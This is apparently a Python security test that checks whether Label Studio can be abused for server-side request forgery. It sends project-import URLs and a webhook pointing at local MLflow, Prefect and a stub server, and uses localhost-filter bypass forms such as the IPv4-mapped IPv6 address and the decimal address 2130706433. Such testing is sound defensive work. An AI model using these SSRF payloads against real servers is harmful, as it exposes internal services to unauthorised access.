"""An annotator has Label Studio fetch what he cannot reach: other services of the same computer."""

import http.server
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import urlsplit

import httpx

from attacks import Try, attack, running_servers

CONFIG = """<View><Text name="t" value="$x"/>
<Choices name="c" toName="t"><Choice value="a"/></Choices></View>"""


class Counting(http.server.BaseHTTPRequestHandler):
    """Anything else that listens on this computer; what it is asked for."""

    asked: list[str]

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b'[{"x": "secret"}]')

    do_POST = do_GET

    def log_message(self, *said: object) -> None:
        del said


@contextmanager
def something_local() -> Iterator[tuple[int, list[str]]]:
    asked: list[str] = []
    kind = type("Local", (Counting,), {"asked": asked})
    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), kind) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        try:
            yield server.server_address[1], asked
        finally:
            server.shutdown()
            thread.join()


@attack("an annotator reads other services through Label Studio", servers=True)
def through_label_studio(folder: Path) -> Iterator[Try]:
    del folder
    _, known = running_servers.up("label_studio", "mlflow", "prefect")
    headers = {"Authorization": f"Token {known['LABEL_STUDIO_API_KEY']}"}
    url = known["LABEL_STUDIO_URL"]
    with (
        something_local() as (port, asked),
        httpx.Client(base_url=url, headers=headers, timeout=60) as client,
    ):
        body = {"title": "attack", "label_config": CONFIG}
        project = client.post("/api/projects", json=body).raise_for_status().json()["id"]
        mlflow = urlsplit(known["MLFLOW_TRACKING_URI"]).port
        prefect = urlsplit(known["PREFECT_API_URL"]).port
        for address in (
            f"http://127.0.0.1:{mlflow}/health",
            f"http://localhost:{mlflow}/version",
            f"http://127.0.0.1:{prefect}/api/health",
            f"http://127.0.0.1:{port}/import",
            f"http://127.0.0.2:{port}/import",
            f"http://[::ffff:127.0.0.1]:{port}/import",
            f"http://2130706433:{port}/import",
        ):
            answer = client.post(f"/api/projects/{project}/import", data={"url": address})
            no = ("reserved network", "resolve hostname")
            refused = answer.status_code in (400, 403) and any(x in answer.text for x in no)
            yield Try(f"import of {address.rpartition(':')[0]}: {answer.text[:80]}", not refused)
        hook = {"project": project, "url": f"http://127.0.0.1:{port}/hook", "is_active": True}
        made = client.post("/api/webhooks/", json={**hook, "send_for_all_actions": True})
        yield Try("a webhook to another service", made.is_success)
        yield Try(f"another service was asked: {asked}", bool(asked))
